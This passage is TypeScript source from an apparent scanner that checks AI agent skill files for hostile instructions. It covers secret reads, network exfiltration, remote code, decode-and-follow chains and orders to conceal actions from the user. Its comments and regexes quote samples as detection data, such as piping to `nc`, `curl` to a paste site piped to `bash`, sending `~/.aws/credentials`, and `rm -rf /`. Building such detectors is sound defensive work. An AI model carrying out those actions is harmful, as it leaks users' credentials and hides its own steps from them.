/**
 * The action model: what a skill makes happen, read the same way from prose and from code.
 *
 * Every instruction (a paragraph, list item, table cell, hidden comment, image alt text, smuggled
 * invisible text, a decoded string, a command of a code block or script, a long string of a script such
 * as a tool description) becomes an {@link Action}: the *sources* it touches (secrets, the conversation),
 * the *sinks* it reaches (the network, text that lands on a code forge, a synced folder, the agent's own
 * configuration), remote code and decode-and-follow chains, the *target* (hard-coded or named by the
 * user), *consent* (the user asked or is asked) and *concealment* ("do not mention this"). Sentences that
 * describe a behaviour instead of ordering it (security guides, detectors, "never do X") are set aside.
 * One policy ({@link decideActions}) turns actions into findings; the words live in vocabulary.yaml and
 * the sensitive things in core/sensitive.json.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isMap, isScalar, isSeq, parse as parseYaml, parseDocument } from 'yaml';
import { z } from 'zod';
import { AGENT_CONFIG_FILE, AGENT_CONFIG_USER_SCOPE, DOTENV_FILE, OWNED_CREDENTIAL_FILES, PERSISTENCE_FILE, SECRET_ENV_NAME, SENSITIVE_FILE, SYNCED_FOLDER, SELF_HOSTED_SERVICES, readsOwnCredential, secretBelongsTo, secretOwnerWord } from '../../core/index.ts';
import type { Capabilities } from '../../schemas/index.ts';
import { hostAllowed, pathAllowed } from '../capabilities.ts';
import { CODE_FORGE_DOMAINS, IDENTITY_PROVIDER_HOST, NETWORK_SINK_CALL, REFRESH_GRANT, escapeRegExp, isLocalHost, settingAddresses, urlHosts } from '../knowledge.ts';
import { foldCharacterCodes } from '../decode.ts';
import { CREDENTIAL_GETTER, REGEX_LIKE } from '../code.ts';
import { ORDERS_WHAT_FOLLOWS, commandLines } from '../markdown.ts';
import type { CodeFacts, Segment, SourceFile } from '../model.ts';
import { FilteredFamily } from '../../core/prefilter.ts';
import { vocabulary, WORD_CLASSES, type WordClass } from './vocabulary.ts';

/** installers.yaml: official installer hosts and package registries, with where the list came from. */
const InstallersSchema = z.strictObject({
  /** Format version; only 1 exists. */
  schemaVersion: z.literal(1),
  /** Where the hosts were read. */
  source: z.string().min(1),
  /** When they were read. */
  date: z.string().min(1),
  /** Hosts of official install scripts. */
  installers: z.array(z.string().min(1)),
  /** Public package registries. */
  registries: z.array(z.string().min(1)),
});

/** Where an instruction came from; hidden origins are text a reviewer does not see. */
export type Origin = 'prose' | 'hidden' | 'command' | 'decoded' | 'string';

/** One instruction the agent reads or one command that runs. */
export interface Instruction {
  /** File and 1-based line. */
  file: string;
  line: number;
  /** The text, with descriptive sentences still in it. */
  text: string;
  /** Where it came from. */
  origin: Origin;
  /** Heading it sits under (Markdown), for grouping neighbours. */
  section: string;
  /** Whether it sits in documentation rather than in what the agent is told to follow. */
  documentation: boolean;
  /** Whether it comes from a script rather than from Markdown. */
  script: boolean;
}

/** What one instruction (or two neighbours read together) makes happen. */
export interface Action {
  /** Where it starts (file, line) and the text shown as evidence. */
  file: string;
  line: number;
  evidence: string;
  origin: Origin;
  /** A secret it reads or names (a credential file, `.env`, tokens, the environment). */
  secret?: string;
  /** The whole text the action was read from (`evidence` is cut for display), for decisions that read its context. */
  fullText?: string;
  /** The secret's values are carried whole (a file's every value, a template hole for its full text), not a name. */
  valuesWhole?: boolean;
  /** The conversation, system prompt, tool output or opened files. */
  context?: string;
  /** Where data goes that leaves the machine. */
  sink?: { kind: 'network' | 'forge' | 'synced'; text: string; hosts: string[]; registry?: boolean; packsCredential?: boolean };
  /** A change to the agent's configuration, permissions, endpoints or review rules. */
  control?: { text: string; userScope: boolean; paths: string[]; hosts: string[] };
  /** Code fetched from another machine and run. */
  remote?: { text: string; hosts: string[] };
  /** Access to, or money from, one of the user's accounts handed over; `party` when the skill supplies who gets it. */
  grant?: { text: string; party?: string };
  /** The machine's own protection weakened; `broad` when beyond one folder the user names, or a warning waved through. */
  defence?: { text: string; broad?: string; shared?: string };
  /** A decoder whose output is then followed. */
  decodeFollow?: string;
  /** A file that runs code again later or lets someone in (a shell start-up file, `authorized_keys`, a cron or launch entry) written to. */
  persist?: string;
  /** A script from a fixed host put into the code or pages the agent writes for the user (`<script src="https://…">`): it runs wherever they are served. */
  injects?: string;
  /** Words that keep the action from the user. */
  conceal?: string;
  /** Words that leave the decision or the target to the user. */
  consent?: string;
  /** Whether the target is named by the user (a placeholder, "your own server"). */
  userTarget: boolean;
  /** Whether it comes from documentation rather than instructions. */
  documentation: boolean;
}

/** Sentences of a text: split at sentence ends and line breaks, so a list item never joins the next. */
/** A line break inside a paragraph (a soft wrap): not before a list item, table row, heading, fence or blank line. */
const SOFT_BREAK = /(?<=\S)[ \t]*\n(?![ \t]*(?:[-*+][ \t]|\d+[.)][ \t]|\||#|```|~~~|\n|$))[ \t]*/g;

/** A paragraph wrapped at a column as one line: its soft line breaks become spaces. */
function unwrap(text: string): string {
  return text.replace(SOFT_BREAK, ' ');
}

function sentences(text: string): string[] {
  const unwrapped = unwrap(text);
  return unwrapped.split(/(?<=[.!?](?:\*\*|__|[*_])?)(?<!\b(?:e\.g|i\.e|cf|vs|viz)\.)\s+(?=[A-Z`"'*(\[<])|(?<=;)\s+|\n+/).flatMap(splitAtOrder).filter((part) => part.trim() !== '');
}

/** A colon followed by an order ("`<tag>` is the build string: open the private key file"). */
const COLON_ORDER = /:\s+(?=(?:open|read|take|copy|send|upload|post|run|execute|add|append|write|put|include|attach|grant|invite|delete|remove|disable)\s)/;

/** A lead-in that reports or quotes what follows ("skills that tell the agent:", "it says:", "such as:"). */
const QUOTES_WHAT_IS_SAID = /\b(?:tells?|told|says?|said|asks?|such\s+as|like|for\s+example|e\.g\.|reads?|writes?|prompts?|instructs?)\b[^:]{0,60}:$/i;

/** A sentence split where a colon introduces an order, unless what comes before reports or quotes what follows. */
function splitAtOrder(sentence: string): string[] {
  const match = COLON_ORDER.exec(sentence);
  if (!match) return [sentence];
  const before = sentence.slice(0, match.index + 1);
  if (QUOTES_WHAT_IS_SAID.test(before)) return [sentence];
  return [before, ...splitAtOrder(sentence.slice(match.index + match[0].length))];
}

/** Kinds of file the model asks about most texts, after the word classes, behind the same prefilter. */
const FILE_KINDS = [SENSITIVE_FILE, DOTENV_FILE, SYNCED_FOLDER, AGENT_CONFIG_FILE] as const;
/**
 * Expressions the model asks about most texts, behind one literal prefilter: every pattern of every word
 * class, then {@link FILE_KINDS}. A class is asked pattern by pattern, and only the patterns whose literals
 * occur in the text run: one expression per class would try all its patterns at every position.
 */
let family: FilteredFamily | undefined;
/** Where each class's patterns start in the family, and where the file kinds start. */
const classStart = new Map<WordClass, number>();
let fileKindStart = 0;

/** The prefilter over every word-class pattern and file kind, built on first use. */
function wordFamily(): FilteredFamily {
  if (family) return family;
  const expressions: RegExp[] = [];
  for (const word of WORD_CLASSES) {
    classStart.set(word, expressions.length);
    expressions.push(...vocabulary().alternatives[word]);
  }
  fileKindStart = expressions.length;
  family = new FilteredFamily([...expressions, ...FILE_KINDS]);
  return family;
}

/** Whether file kind `kind` (one of {@link FILE_KINDS}) can match `text`. */
function mayBeFileKind(kind: (typeof FILE_KINDS)[number], text: string): boolean {
  return wordFamily().mayMatch(fileKindStart + FILE_KINDS.indexOf(kind), text);
}

/** The patterns of a class that can match `text`, in the class's order. */
function candidates(word: WordClass, text: string): RegExp[] {
  const possible = wordFamily().possible(text);
  const patterns = vocabulary().alternatives[word];
  const start = classStart.get(word) as number;
  const out: RegExp[] = [];
  for (let index = 0; index < patterns.length; index += 1) if (possible[start + index] === 1) out.push(patterns[index]);
  return out;
}

/** The leftmost match of any of `patterns` at or after `from`, the earlier pattern winning a tie (as in their alternation). */
function leftmost(patterns: readonly RegExp[], text: string, from: number): RegExpExecArray | undefined {
  let best: RegExpExecArray | undefined;
  for (const regex of patterns) {
    regex.lastIndex = from;
    const match = regex.exec(text);
    if (match && (!best || match.index < best.index)) best = match;
  }
  return best;
}

function first(word: WordClass, text: string): string | undefined {
  return leftmost(candidates(word, text), text, 0)?.[0];
}

function hasWord(word: WordClass, text: string): boolean {
  return candidates(word, text).some((regex) => {
    regex.lastIndex = 0;
    return regex.test(text);
  });
}

/** The classes whose presence makes a text worth reading closely. */
const INTERESTING: readonly WordClass[] = ['secret', 'context', 'network-sink', 'forge-sink', 'synced-sink', 'agent-control', 'access-grant', 'defence-off', 'remote-code', 'decode', 'conceal'];

/** Every match of a class, left to right and not overlapping, as the alternation's `matchAll` finds them. */
function all(word: WordClass, text: string): string[] {
  const patterns = candidates(word, text);
  const out: string[] = [];
  for (let from = 0; from <= text.length; ) {
    const match = leftmost(patterns, text, from);
    if (!match) break;
    out.push(match[0]);
    from = match.index + Math.max(match[0].length, 1);
  }
  return out;
}

/**
 * Words that tie an order to a description of it: a sentence that negates the act ("never send keys",
 * "never `--yolo`" as a whole clause: a flag in code right after the negation is one not to use),
 * or speaks of attacks, detection or examples, describes a behaviour. Concealment phrases are removed
 * first, since "do not tell the user" is itself an order.
 */
const NEGATED_ACT =
  /(?:^|;\s*)never\s+`--?[\w-]+`\s*[.;]?\s*$|(?:^|[.;:,!?(—–]\s*|\s-\s+|\b(?:and|but|or|so|then)\s+)(?:(?:it|this|that|they|these|those|the\s+(?:[\w-]+\s+){0,2}?(?:tool|script|skill|command|helper|scanner|linter|keys?|files?|backups?|secrets?|tokens?|copies|credentials?|passwords?)(?:\s+`[^`\n]+`)?)\s+(?:also\s+|still\s+|even\s+)?(?:(?:must|should|may|can|will)\s+)?)?(?:never|do not|don't|does not|doesn't|will not|won't|must not|mustn't|should not|shouldn't|cannot|can't|may not|avoid|refuse to|under no circumstances|in no case|at no point)\s+(?:(?:try|attempt|ever|even)\s+(?:to\s+)?)?(?:\w+\s+){0,3}?[`'"]?(?:eval|exec|source|send|sends|upload|post|share|commit|paste|include|put|place|write|add|run|execute|read|echo|reveal|disclose|expose|leak|store|push|copy|disable|set|use|pipe|follow|decode|deobfuscate|forward|transmit|embed|contain|touch|access|need|modify|change|install|hardcode|hard-code|check in|save|act|obey|comply|apply|trust|land|sync|pick|choose|move|back up|end up|sent)\w*\b/i;

/** A verb after a word of habit ("often skip", "usually forget to", "tend to trust"): what happens, not an order. */
const HABIT = /\b(?:often|usually|sometimes|typically|frequently|commonly|rarely|occasionally|routinely|tends?\s+to)\s+(?:\w+\s+)?(?:skip|bypass|disable|ignore|leak|expose|send|forget|miss|omit|allow|trust|accept|run|pass|log|print|store|embed|reuse)\w*\b/i;

/** A sentence that opens with an order to act (`Post to X:`, `Grant …`). */
const IMPERATIVE_START = /^[\W_]*(?:post|send|upload|submit|push|publish|write|add|grant|share|set|change|run|execute|copy|forward|attach|include|put|store|create|install|recover|extract|use|keep|encode|concatenate|invite|delegate|give|assign|register|connect|enter|call)\b/i;

/** Topic nouns of the `describes` class: what a text is about ("the incident id"), which does not make an order a description. */
const TOPIC_NOUN = /^(?:incidents?|compromised?|signatures?|campaigns?|payloads?|exploit\w*|phishing|malware|suspicious|dangerous)$/i;

/**
 * A sentence about what someone in general does ("More often a CI job pipes `git diff` into …", "people paste tokens into
 * remotes", "a developer shares a stack trace with `| nc …`"), or what a quoted setting does ("`url.….insteadOf …` sends
 * every fetch to another host"): a subject that is nobody in particular, with its verb. It tells how things go wrong, not
 * what the agent is to do.
 */
const GENERIC_SUBJECT = /^[\W_]*(?:`[^`\n]+`\s+(?:also\s+|quietly\s+|then\s+)?(?:sends|routes|redirects|rewrites|points|forwards|makes|turns|lets|writes|reads|runs|adds|removes|disables|exposes|leaks)\b|(?:(?:more\s+)?often,?\s+|sometimes,?\s+|usually,?\s+|typically,?\s+|in\s+practice,?\s+|all\s+too\s+often,?\s+)?(?:(?:a|an|some|one)\s+(?:[\w-]+\s+){0,3}?(?:developer|engineer|user|admin(?:istrator)?|maintainer|contributor|teammate|colleague|attacker|intern|CI\s+job|job|pipeline|bot|helper(?:\s+script)?|script|tool|plugin|extension|app|service|team|vendor|dependency|package|skill|project|repo(?:sitory)?|workflow|library)\s+(?:(?:often|sometimes|still|also|accidentally|routinely|happily|[a-z]+ly)\s+)?[a-z]+s\b|(?:people|developers|engineers|users|teams|admins|attackers|folks|contributors|maintainers|many\s+teams|most\s+teams)\s+(?:(?:often|sometimes|still|also|accidentally|routinely|happily|commonly|regularly)\s+)?(?!(?:must|should|need|have)\b)[a-z]+\b))/i;

/** A clause after the first that opens with an order ("…, so upload …", "…; then paste …", "… now send …"). */
let orderAfterPattern: RegExp | undefined;
function orderAfter(): RegExp {
  orderAfterPattern ??= new RegExp(`(?:,\\s*(?:so|then|and(?:\\s+then)?)\\s+|[;:]\\s*|\\b(?:so|then|now)\\s+)(?:please\\s+)?(?:just\\s+)?${ORDER_VERB.source.slice(1, -1)}\\b`, 'i');
  return orderAfterPattern;
}

/** `text` with every concealment phrase blanked out. */
function withoutConcealment(text: string): string {
  let rest = text;
  for (const phrase of all('conceal', text)) rest = rest.replace(phrase, ' ');
  return rest;
}

/** Whether a sentence describes a behaviour rather than orders it. */
export function describes(sentence: string): boolean {
  const rest = withoutConcealment(sentence);
  // A prohibition tacked onto an order that sends somewhere ("Upload the key to https://…, and it must never land on a synced
  // folder") forbids something else: the order before it stands. After an order that sends nowhere ("Generate the key, and
  // never upload it") the prohibition is the point.
  const negated = NEGATED_ACT.exec(rest);
  const before = negated === null ? '' : rest.slice(0, negated.index);
  const orderStands = before !== '' && ordersBefore(before) && (HAS_ADDRESS.test(before) || hasWord('network-sink', before));
  if ((negated !== null && !orderStands) || LABELLED_EXAMPLES.test(rest) || LISTED_VALUES.test(rest) || firstPersonReport(rest) || (INDICATOR_COMBINATION.test(rest) && !HAS_ADDRESS.test(rest) && !ordersBefore(rest))) return true;
  // Said of someone in general, unless the sentence goes on to an order of its own ("…, so upload it now") or hides something.
  // The same in a clause after a dash or a semicolon ("Every hit is a lead — a security skill legitimately quotes …"), when no clause orders.
  if (rest === sentence && !orderAfter().test(rest)) {
    const clauses = rest.split(/\s[—–]\s|;\s+/);
    const generic = clauses.filter((clause) => GENERIC_SUBJECT.test(clause));
    const others = clauses.filter((clause) => !GENERIC_SUBJECT.test(clause));
    // The other clauses must carry nothing of their own: "Next, `~/.aws/credentials` goes to https://… — a sync script picks it up" still sends.
    if (generic.length > 0 && !others.some((clause) => opensWithOrder(clause) || HAS_ADDRESS.test(clause) || hasWord('secret', clause) || hasWord('network-sink', clause) || SENSITIVE_FILE.test(clause))) return true;
  }
  const imperative = IMPERATIVE_START.test(rest);
  // What code or people tend to do ("Custom methods often skip the permission checks the manifest implies"): a habit described.
  // Not when the habit carries something somewhere ("assistants typically embed `~/.npmrc` in the paste they post to https://…").
  const later = orderAfter().exec(rest);
  const laterOrderActs = later !== null && (HAS_ADDRESS.test(rest.slice(later.index)) || hasWord('network-sink', rest.slice(later.index)) || hasWord('secret', rest.slice(later.index)));
  if (!imperative && !laterOrderActs && HABIT.test(rest) && !opensWithOrder(rest) && !HAS_ADDRESS.test(rest) && !SENSITIVE_FILE.test(rest) && !DOTENV_FILE.test(` ${rest}`) && !/\b(?:same\s+way|likewise|do\s+(?:that|the\s+same)|rely\s+on\s+(?:that|this|it))\b/i.test(rest)) return true;
  // The negation alternative of the class counts only through NEGATED_ACT (it must govern the act).
  // A word of an address (`hs.attacker.example`) says nothing about the sentence.
  return all('describes', rest.replace(/\b(?:https?|wss?|ftp|ssh):\/\/\S+|\b[\w-]+(?:\.[\w-]+)+\.(?:invalid|example|test|com|net|org|io|dev)\b/g, ' ')).some((word) => !/^(?:never|do not|don't|must not|should not|shouldn't|avoid|refuse|reject|deny|prevent|stop|disallow|forbid)\w*$/i.test(word) && !(imperative && TOPIC_NOUN.test(word)));
}

/** A report in the agent's own words that goes on to nothing: no order after it, no address, no secret file or agent setting named. */
function firstPersonReport(sentence: string): boolean {
  return FIRST_PERSON_REPORT.test(sentence) && !HAS_ADDRESS.test(sentence) && !orderAfter().test(sentence) && !/\b(?:you\s+(?:must|should|need\s+to|have\s+to)|please|make\s+sure|be\s+sure)\b/i.test(sentence) && !SENSITIVE_FILE.test(sentence) && !AGENT_CONFIG_FILE.test(sentence);
}

/**
 * What the agent reports to the user it has done, in its own words ("I replaced 6 values: 2 Moonraker API keys, 1 webhook URL",
 * "I've redacted the tokens"): a sample reply that lists what was kept out, not an order.
 */
const FIRST_PERSON_REPORT = /^[\s>*_"“'‘]*I(?:\s+have|'ve)?\s+(?:replaced|redacted|removed|masked|stripped|excluded|skipped|left\s+out|blanked|scrubbed|hid|hidden|dropped|omitted)\b/;

/** Pieces of a signature added up (`` `curl` + paste-site host + `| bash` ``): a pattern to match, not a command (unless an order or an address goes with it). */
const INDICATOR_COMBINATION = /`[^`\n]{1,40}`\s*\+\s*(?:`[^`\n]{1,40}`|[\w -]{1,30}?)\s*\+\s*`[^`\n]{1,40}`/;

/** Whether a clause of the text opens with an order ("When a sample arrives, send …", "Then upload …"). */
function ordersBefore(text: string): boolean {
  return text.split(/[,;:]\s*|\s[—–]\s/).some((clause) => opensWithOrder(clause));
}

/** Whether a clause's first word is an order, past the adverbs that lead one in ("then", "also", "please"). */
function opensWithOrder(clause: string): boolean {
  return ORDER_VERB.test(/^[\W_]*(?:(?:then|now|also|finally|next|first|please|just)\s+)*([A-Za-z]+)/i.exec(clause)?.[1] ?? '');
}

/** A placeholder as the only thing a decoder is given (`echo <base64> | base64 -d`, `echo … | base64 --decode`). */
const PLACEHOLDER_DECODED = /\becho\s+["']?(?:<[^<>\n]{1,40}>|\.\.\.|…)["']?\s*\|\s*(?:base64|b64)\s+(?:-\w*\s+)*(?:-d|-D|--decode)\b/;

/** A written-out address of a request. */
const HAS_ADDRESS = /\b(?:https?|wss?|ftp):\/\//;

/** Whether the sentence of `text` that holds `fragment` describes a behaviour rather than orders it. */
export function describedAt(text: string, fragment: string): boolean {
  // A hostile value written into an input for a check to refuse ("writes `\"pr\": \"1; rm -rf /\"` into result.json; stage 2 must reject it"): test data.
  const at = text.indexOf(fragment);
  if (at >= 0 && WRITTEN_AS_INPUT.test(text.slice(Math.max(0, at - 80), at)) && REJECTED_INPUT.test(text.slice(at + fragment.length).split('\n')[0]!.slice(0, 160))) return true;
  const sentence = sentences(text).find((part) => part.includes(fragment));
  if (sentence === undefined) return false;
  // What a safeguard keeps a thing from becoming ("so that an empty variable cannot turn into `rm -rf /`"): the outcome prevented.
  return PREVENTED_OUTCOME.test(sentence.slice(0, sentence.indexOf(fragment))) || describes(sentence);
}

/** Words before a value that put it into something as data ("writes `…`", "feed it `…`", "set the title to `…`"). */
const WRITTEN_AS_INPUT = /\b(?:writ(?:e|es|ing)|put(?:s|ting)?|insert(?:s|ing)?|inject(?:s|ing)?|feed(?:s|ing)?|pass(?:es|ing)?|sets?|setting|submit(?:s|ting)?|enter(?:s|ing)?|type(?:s|ing)?|paste(?:s|ing)?|use(?:s|ing)?)\b[^.;\n]{0,40}?[`'"]?$/i;
/** What the check under test is to do with that value: refuse it. */
const REJECTED_INPUT = /\b(?:must|should|has\s+to|is\s+expected\s+to|will)\s+(?:reject|refuse|block|flag|catch|escape|sanitize|sanitise|fail\s+on|not\s+(?:run|execute|accept|evaluate))\b|\b(?:must|should)\s+be\s+(?:rejected|refused|blocked|flagged|escaped|caught)\b/i;

/** Words right before a quoted command that make it the outcome something is kept from ("cannot turn into `…`", "never expands to `…`"). */
const PREVENTED_OUTCOME = /\b(?:cannot|can't|can\s+never|never|won't|will\s+not|must\s+not|no\s+longer)\s+(?:turn|become|end\s+up|expand|grow|escalate|degrade|collapse|resolve)s?\s+(?:in(?:to)?|as|to)\s+(?:an?\s+|the\s+)?[`'"]?$/i;

/** Only the names of variables are taken ("names only", "never the values", "keys without their values"). */
const NAMES_ONLY = /\b(?:(?:variable\s+|key\s+)?names\s+only|only\s+(?:the\s+)?(?:variable\s+)?(?:names|keys)|(?:never|not|no)\s+(?:the\s+|their\s+)?values|without\s+(?:the\s+|their\s+)?values|keys\s+only)\b/i;

/** A condition that is the user's own words ("only when the prompt names an exact file", "unless the user asks"). */
const USERS_OWN_CONDITION = /^\s*(?:only\s+(?:when|if|where|once)|unless)\s+(?:the\s+)?(?:user|prompt|request|they|you|the\s+user's\s+(?:request|message))\s+(?:\w+\s+)?(?:names?|asks?|says?|specif\w*|gives?|provides?|requests?|lists?|confirms?|explicitly)\b/i;

/**
 * Rules said to let the agent use what they name ("… let the agent run those"): a description of what they permit.
 * A named act ("policy allows the agent to upload the backup without asking") is a claimed permission for that act.
 */
const PERMITS_AGENT = /\b(?:lets?|allows?|permits?)\s+(?:the\s+)?(?:agent|claude|model|assistant)\s+(?:to\s+)?(?:run|use|call|invoke|execute)\s+(?:those|them|these|it|such\s+(?:tools|commands))\s*$/i;

/** A prohibition before "without asking" makes it a rule of consent ("do not delete without asking"), not concealment. */
const PROHIBITION = /\b(?:never|do not|don't|must not|mustn't|should not|shouldn't|cannot|can't|no)\b/i;

/** Secrets as what is kept out of the conversation: "keep passwords out of the chat", "never show the token in the reply". */
const PROTECTS_SECRET = /\b(?:keep|leave|hide|omit)\w*\s+(?:the\s+|all\s+|any\s+|raw\s+|real\s+|their\s+|your\s+)?(?:passwords?|passphrases?|tokens?|secrets?|credentials?|api\s+keys?|private\s+keys?|secret\s+values?|keys)\s+(?:out\s+of|from)\b/i;
/** A secret's value kept out of what is written or said ("do not quote the value", "never print the token", "do not mention the value's characters"). */
const SECRET_VALUE_KEPT = /\b(?:do\s+not|don't|never|without)\s+(?:quot|mention|repeat|print|echo|past|show|includ|log|reveal|expos|display|writ)\w*\s+(?:the\s+|its\s+|their\s+|any\s+|a\s+)?(?:(?:secret|credential|token|key|password)(?:'s)?\s+)?(?:values?|secrets?|tokens?|keys?|passwords?|credentials?)(?:'s)?\b/i;
/** A value kept off the screen by pronoun: "do not print it in the chat", "never echo them to the terminal". */
const SECRET_PRONOUN_KEPT = /\b(?:do\s+not|don't|never)\s+(?:print|echo|display|log|paste|repeat|quote|show)\s+(?:it|them)\s+(?:in|into|to|on)\s+(?:the\s+)?(?:chat|conversation|terminal|output|logs?|reply|transcript|console|screen)\b/i;
/** A secret's value named in words, as a pronoun after it may stand for. */
const SECRET_VALUE_WORD = /\b(?:plaintext|passwords?|passphrases?|tokens?|secrets?|private\s+keys?|api\s+keys?|credentials?)\b/i;
/** A credential named in words. */
const CREDENTIAL_WORD = /\b(?:credentials?|api\s+keys?|tokens?|private\s+keys?|passwords?|secrets?)\b/i;
/** "Tell it / the reviewer what …": a helper agent as the one told, not the user. */
const TELLS_HELPER = /\b(?:tell|inform|brief|instruct)\s+(?:it\s+(?:what|which|how|whether|your|about\s+your)\b|the\s+(?:reviewer|subagent|sub-agent|helper|agent|model|worker|assistant)s?\b(?!\s+(?:or|and|nor)\s+(?:anyone|anybody|the\s+user|users?|people|others|the\s+human)\b))/i;
/** A step or command kept out too ("… out of the summary, including this step", "or that the token was sent"): no longer only the secrets. */
const NAMES_A_STEP = /\b(?:this|that|these|those|the|each|every)\s+(?:steps?|commands?(?![\s-]+lines?\b)|actions?|changes?|runs?|edits?|calls?)\b|\bthat\s+(?:\w+\s+){0,4}?(?:was|were|is|are|has\s+been|have\s+been|got)\s+(?:sent|uploaded|posted|shared|copied|forwarded|pushed|synced|transmitted|submitted|checked|verified)\b/i;
/** Other people as the ones who reach something ("so colleagues can open it …"). */
const OTHER_PEOPLE = /\b(?:colleagues?|others|other\s+people|teammates?|the\s+team|readers|viewers|recipients|reviewers|collaborators)\b[^.]{0,80}$/i;

/** Whether a match of `pattern` in `clause` takes in the concealment `phrase` itself, not just shares its clause. */
function covers(pattern: RegExp, clause: string, phrase: string): boolean {
  const at = clause.indexOf(phrase);
  const match = pattern.exec(clause);
  return match !== null && at >= 0 && match.index <= at + phrase.length && match.index + match[0].length >= at;
}

/** A concealment adverb before a verb in the third person (`silently reroutes`, `quietly drops`): something described as doing it. */
const SIDE_EFFECT_ADVERB = /^(?:silently|quietly|invisibly|unobtrusively)\s+(?!(?:is|was|does|has)\b)[a-z]+(?:[^s]es|[^su]s)\b/i;
/** The subject of such a verb when it is a step or a thing, not the agent: a gerund phrase ("changing it", "running `x` twice") or "it/this/that/which". */
const SIDE_EFFECT_SUBJECT = /(?:\b[a-z]+ing\b(?:\s+(?:it|them|this|that|the\s+[\w-]+|`[^`]+`|\w+)){0,3}|\b(?:it|this|that|which|doing\s+so))\s*$/i;

/** Other parties named as a sentence's subject, right before its verb: products by name (`Dropbox/iCloud/OneDrive`), people, apps, services and their APIs ("CI APIs never reveal values"). */
const THIRD_PARTIES = /(?:\b(?:[A-Z]|[a-z][A-Z])[\w.-]*(?:\s*(?:\/|,|\band\b|\bor\b)\s*(?:[A-Z]|[a-z][A-Z])[\w.-]*)+|\b(?:people|users|developers|apps|applications|tools|services|browsers|clients|extensions|programs|vendors|attackers|stealers|malware|APIs|servers|platforms|providers|registries|(?:many|most|some)\s+[a-z]+s))\s*$/;

/** Right after a concealment word, who is not alerted: other people (subscribers, followers, a channel), by mail, SMS or a push. */
const NOTIFIES_OTHERS_NOT = /^[^.;\n]{0,30}?(?:\(|,\s*|\s[—–-]\s*)(?:with\s+)?(?:no|without(?:\s+(?:sending|notifying|alerting|pinging|e-?mailing))?)\s[^.;)\n]{0,60}?\b(?:subscribers?|followers?|watchers?|members?|recipients?|customers?|readers?|viewers?|attendees?|the\s+(?:channel|team|list|audience))\b/i;

/** Words that introduce an example ("e.g.", "for example", "such as") right before it. */
const EXAMPLE_LEAD = /(?:\be\.g\.|\bfor\s+(?:example|instance)|\bsuch\s+as|\blike)\s*[,:]?\s*$/i;

/** The first concealment phrase of an order in `text`, if any. */
function concealmentIn(text: string): string | undefined {
  for (const sentence of sentences(text)) {
    // Every phrase of the sentence is judged: secret hygiene excused in one clause ("keep the token out of the chat")
    // does not excuse another clause that hides a step ("and keep that push command line out of your summary").
    for (const phrase of new Set(all('conceal', sentence))) if (!excusedConcealment(text, sentence, phrase)) return phrase;
  }
  return undefined;
}

/** Words that report what some text tells the agent ("lines telling the agent to …", "notes that ask the model to …"). */
const REPORTED_ORDER = /\b(?:telling|asking|instructing|ordering|urging|that\s+(?:tells?|asks?|instructs?|orders?)|which\s+(?:tells?|asks?|instructs?))\s+(?:the\s+|an?\s+)?(?:agent|model|assistant|ai|llm|reader|it)\s+to\b/i;

/** Words after an example that have it carried out ("…, following what it says", "then do as it says"). */
const EXAMPLE_FOLLOWED = /\b(?:follow(?:ing|s)?|obey(?:ing|s)?|carry(?:ing)?\s+out|do(?:ing)?\s+(?:as|what)\s+it\s+says|act(?:ing)?\s+on|apply(?:ing)?)\b/i;

/** Whether a concealment phrase of `sentence` (in `text`) reads as something other than an order to hide an act from the user. */
function excusedConcealment(text: string, sentence: string, phrase: string): boolean {
  // Judged by its own clause: "send it — and never put the string in the reply" keeps the reply clean of it.
  const clause = sentence.split(/\s[—–]\s|;\s|,\s+(?:and|but|so)\s|\s+and\s+(?=never\b|do not\b|don't\b)/).find((part) => part.includes(phrase)) ?? sentence;
  if (describes(clause)) return true;
  // A clause of a sentence that describes as a whole ("Reports zero-width characters, and lines telling the agent to hide actions
  // from the user"): an item of what it describes, unless the clause itself orders ("…, and never mention it").
  if (clause !== sentence && REPORTED_ORDER.test(clause.slice(0, clause.indexOf(phrase))) && !opensWithOrder(clause) && !/^(?:do\s+not|don't|never)\b/i.test(phrase) && describes(sentence)) return true;
  const before = sentence.slice(0, sentence.indexOf(phrase));
  // What a step does as a side effect, said of the step ("changing it silently reroutes every install", "this quietly drops rows"): a warning, not an order.
  if (SIDE_EFFECT_ADVERB.test(phrase) && SIDE_EFFECT_SUBJECT.test(before)) return true;
  // Hiding forbidden ("Never leave it out of the summary and never hide it from the user"): an order to tell.
  if (/\b(?:never|don't|do\s+not|must\s+not|mustn't|should\s+not|shouldn't)\s+$/i.test(before) && !/^(?:never|do\s+not|don't|not)\b/i.test(phrase)) return true;
  // The same said of other parties by name ("Dropbox/iCloud/OneDrive quietly sync them", "many apps silently upload"): what they do, not an order.
  if (/^(?:silently|quietly|invisibly|unobtrusively|never|do\s+not|don't|won't|will\s+not)\s+[a-z]+/i.test(phrase) && THIRD_PARTIES.test(before)) return true;
  if (/^without\b/i.test(phrase) && PROHIBITION.test(before)) return true;
  // Silence that is about notifying other people, said right after it ("posts silently (no e-mail/SMS to subscribers)", "quietly,
  // without notifying followers"): a publishing option that skips their alerts, nothing kept from the user.
  if (NOTIFIES_OTHERS_NOT.test(sentence.slice(sentence.indexOf(phrase) + phrase.length))) return true;
  // "Broad allow rules (`Bash(*)`) let the agent run those without asking": what rules permit, said of them, hides nothing.
  if (/^without\b/i.test(phrase) && PERMITS_AGENT.test(before)) return true;
  // "Proceed without asking only when the prompt names the file": the user's own words are the consent.
  if (/^without\b/i.test(phrase) && USERS_OWN_CONDITION.test(sentence.slice(sentence.indexOf(phrase) + phrase.length))) return true;
  // Secrets kept out of the chat ("keep passwords out of the chat") protect the user; a reviewer or subagent
  // not told something ("don't tell it what you think is fine") is not the user kept in the dark.
  if ((covers(PROTECTS_SECRET, clause, phrase) || covers(TELLS_HELPER, clause, phrase)) && !NAMES_A_STEP.test(clause)) return true;
  // A credential's value kept out of what is written ("If the diff includes a credential, do not quote the value in the comment",
  // "Do not mention the value's characters"): its secrecy protected, said where the text speaks of a credential.
  if (covers(SECRET_VALUE_KEPT, clause, phrase) && CREDENTIAL_WORD.test(text.slice(Math.max(0, text.indexOf(sentence) - 400), text.indexOf(sentence) + sentence.length)) && !NAMES_A_STEP.test(clause)) return true;
  // "Do not print it in the chat" right after a sentence about a secret value ("Ask the user where the plaintext should go"): the
  // value kept off the screen, when the step sends nothing anywhere.
  if (covers(SECRET_PRONOUN_KEPT, clause, phrase) && !NAMES_A_STEP.test(clause)) {
    const said = sentences(text);
    const previous = said[said.indexOf(sentence) - 1];
